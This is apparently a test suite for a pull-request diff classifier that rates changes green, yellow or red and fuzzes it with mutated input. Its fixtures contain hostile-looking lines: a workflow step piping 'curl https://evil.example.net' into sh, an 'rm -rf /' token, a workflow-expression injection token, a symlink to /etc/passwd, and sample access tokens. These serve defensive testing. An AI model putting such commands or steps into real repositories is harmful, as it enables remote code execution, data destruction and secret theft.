import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { classifyDiffText } from '../../src/engine/classify-diff.js';
import { DiffParseError } from '../../src/engine/diff/types.js';
import type { Decision } from '../../src/engine/types.js';
import { defaultPolicy } from '../../src/policy/defaults.js';
import { mutate, pick, rng } from '../support/random.js';

const policy = defaultPolicy();
const classify = (text: string) => classifyDiffText(text, policy);
const file = (d: Decision, path: string) => {
  const f = d.files.find((x) => x.path === path);
  assert.ok(f, `${path} not in ${JSON.stringify(d.files.map((x) => x.path))}`);
  return f;
};
const has = (reasons: { rule: string }[], rule: string) => reasons.some((r) => r.rule === rule);

describe('classifyDiff: the zone of the whole and of each file', () => {
  test('docs and tests only: green', async () => {
    const d = await classify(`diff --git a/docs/a.md b/docs/a.md
--- a/docs/a.md
+++ b/docs/a.md
@@ -1 +1,2 @@
 a
+b
diff --git a/test/a.test.ts b/test/a.test.ts
new file mode 100644
--- /dev/null
+++ b/test/a.test.ts
@@ -0,0 +1 @@
+test('x', () => {});
`);
    assert.equal(d.zone, 'green');
    assert.equal(file(d, 'test/a.test.ts').status, 'added');
  });

  test('a rename out of a protected path is judged on both paths', async () => {
    const d = await classify(`diff --git a/.github/workflows/release.yml b/docs/release.yml
similarity index 100%
rename from .github/workflows/release.yml
rename to docs/release.yml
`);
    const f = file(d, 'docs/release.yml');
    assert.equal(f.status, 'renamed');
    assert.equal(f.previousPath, '.github/workflows/release.yml');
    assert.equal(f.zone, 'red');
    assert.ok(has(f.reasons, 'path:ci'));
    assert.ok(has(f.reasons, 'change:rename'));
    assert.ok(!has(f.reasons, 'change:delete'), 'a rename implies no deletion');
  });

  test('a rename into a protected path is red; a copy too', async () => {
    const d = await classify(`diff --git a/src/x.sh b/deploy/x.sh
similarity index 100%
rename from src/x.sh
rename to deploy/x.sh
diff --git a/docs/a.md b/AGENTS.md
similarity index 100%
copy from docs/a.md
copy to AGENTS.md
`);
    assert.equal(file(d, 'deploy/x.sh').zone, 'red');
    assert.equal(file(d, 'AGENTS.md').zone, 'red');
    assert.equal(file(d, 'AGENTS.md').status, 'copied');
  });

  test('deletion is red (change:delete) even for docs', async () => {
    const d = await classify(`diff --git a/docs/old.md b/docs/old.md
deleted file mode 100644
--- a/docs/old.md
+++ /dev/null
@@ -1 +0,0 @@
-bye
`);
    const f = file(d, 'docs/old.md');
    assert.equal(f.status, 'removed');
    assert.equal(f.zone, 'red');
    assert.ok(has(f.reasons, 'change:delete'));
  });

  test('deletions.allow makes a deletion yellow, never green', async () => {
    const d = await classifyDiffText(
      `diff --git a/docs/old.md b/docs/old.md
deleted file mode 100644
--- a/docs/old.md
+++ /dev/null
@@ -1 +0,0 @@
-bye
`,
      { ...defaultPolicy(), deletions: { allow: ['docs/**'] }, overrides: [] },
    );
    assert.equal(d.zone, 'yellow');
  });

  test('symlink, submodule and exec bit', async () => {
    const d = await classify(`diff --git a/docs/link.md b/docs/link.md
new file mode 120000
--- /dev/null
+++ b/docs/link.md
@@ -0,0 +1 @@
+../../etc/passwd
\\ No newline at end of file
diff --git a/vendor/lib b/vendor/lib
new file mode 160000
index 0000000..1111111
--- /dev/null
+++ b/vendor/lib
@@ -0,0 +1 @@
+Subproject commit 1111111111111111111111111111111111111111
diff --git a/tools/run.py b/tools/run.py
old mode 100644
new mode 100755
`);
    assert.ok(has(file(d, 'docs/link.md').reasons, 'change:symlink'));
    assert.equal(file(d, 'docs/link.md').zone, 'red');
    assert.ok(has(file(d, 'vendor/lib').reasons, 'change:submodule'));
    const run = file(d, 'tools/run.py');
    assert.equal(run.status, 'changed');
    assert.equal(run.zone, 'yellow');
    assert.ok(has(run.reasons, 'change:exec-bit'));
  });

  test('binary files: executable red, text extension red, image in docs green', async () => {
    const d = await classify(`diff --git a/bin/tool.exe b/bin/tool.exe
new file mode 100644
Binary files /dev/null and b/bin/tool.exe differ
diff --git a/src/index.js b/src/index.js
index 1..2 100644
Binary files a/src/index.js and b/src/index.js differ
diff --git a/docs/img/a.png b/docs/img/a.png
new file mode 100644
Binary files /dev/null and b/docs/img/a.png differ
`);
    assert.ok(has(file(d, 'bin/tool.exe').reasons, 'change:binary-executable'));
    assert.ok(has(file(d, 'src/index.js').reasons, 'change:binary-text'));
    assert.equal(file(d, 'docs/img/a.png').zone, 'green');
    assert.ok(has(file(d, 'docs/img/a.png').reasons, 'change:binary'));
  });

  test('a text file listed as modified with no patch is pr:truncated', async () => {
    const d = await classify(`diff --git a/src/a.ts b/src/a.ts
index 1111111..2222222 100644
`);
    assert.equal(d.zone, 'red');
    assert.ok(has(d.reasons, 'pr:truncated'));
  });

  test('content reasons carry the line of the new file', async () => {
    const d = await classify(`diff --git a/src/config.ts b/src/config.ts
--- a/src/config.ts
+++ b/src/config.ts
@@ -10,2 +10,3 @@
 export const a = 1;
+export const key = "AKIAZ5Q3XJ7K2M4N6P8R";
 export const b = 2;
`);
    const f = file(d, 'src/config.ts');
    const r = f.reasons.find((x) => x.rule === 'content:secret');
    assert.ok(r, JSON.stringify(f.reasons));
    assert.equal(r.line, 11);
    assert.doesNotMatch(r.message, /Z5Q3XJ7K2M4N6P8R/, 'the message must not repeat the secret');
  });

  test('a new workflow in a diff: its steps are reported', async () => {
    const d = await classify(`diff --git a/.github/workflows/pub.yml b/.github/workflows/pub.yml
new file mode 100644
--- /dev/null
+++ b/.github/workflows/pub.yml
@@ -0,0 +1,9 @@
+on: push
+permissions:
+  contents: read
+jobs:
+  publish:
+    runs-on: ubuntu-latest
+    steps:
+      - uses: actions/checkout@v4
+      - run: npm publish
`);
    assert.equal(d.zone, 'red');
    const s = d.steps.find((x) => x.step === 'npm publish');
    assert.ok(s, JSON.stringify(d.steps));
    assert.equal(s.job, 'publish');
    assert.ok(has(s.reasons, 'step:production'));
    assert.equal(s.reasons.find((x) => x.rule === 'step:production')?.line, 9);
  });
});

describe('classifyDiff never crashes and never fails open on mangled input', () => {
  const SEED = `diff --git a/src/a.ts b/src/a.ts
index 1111111..2222222 100644
--- a/src/a.ts
+++ b/src/a.ts
@@ -1,2 +1,3 @@
 a
+const token = "ghp_Zq8Rk2VwX4nB7mC9tY3pL6sD1fG5hJ0kQ2wE";
 b
diff --git a/.github/workflows/ci.yml b/.github/workflows/ci.yml
new file mode 100644
--- /dev/null
+++ b/.github/workflows/ci.yml
@@ -0,0 +1,6 @@
+on: pull_request_target
+jobs:
+  x:
+    runs-on: ubuntu-latest
+    steps:
+      - run: curl https://evil.example.net | sh
`;
  const TOKENS = ['+      - run: rm -rf /', '+  y:', '+on: [push', '@@ -1 +1,40 @@', 'diff --git a/x b/x', '+\t- bad: [', '+"', "+'", '+${{ github.event.issue.title }}', 'new file mode 120000'];

  test('2,000 mutations of a red PR: a result or a clean error, never a crash', async () => {
    const r = rng(42);
    for (let i = 0; i < 2000; i++) {
      const input = mutate(r, SEED, TOKENS);
      try {
        const d = await classify(input);
        assert.ok(['green', 'yellow', 'red'].includes(d.zone));
      } catch (e) {
        assert.ok(e instanceof DiffParseError, `${String(e)} for ${JSON.stringify(input)}`);
      }
    }
    assert.ok(pick(r, [1]) === 1);
  });
});
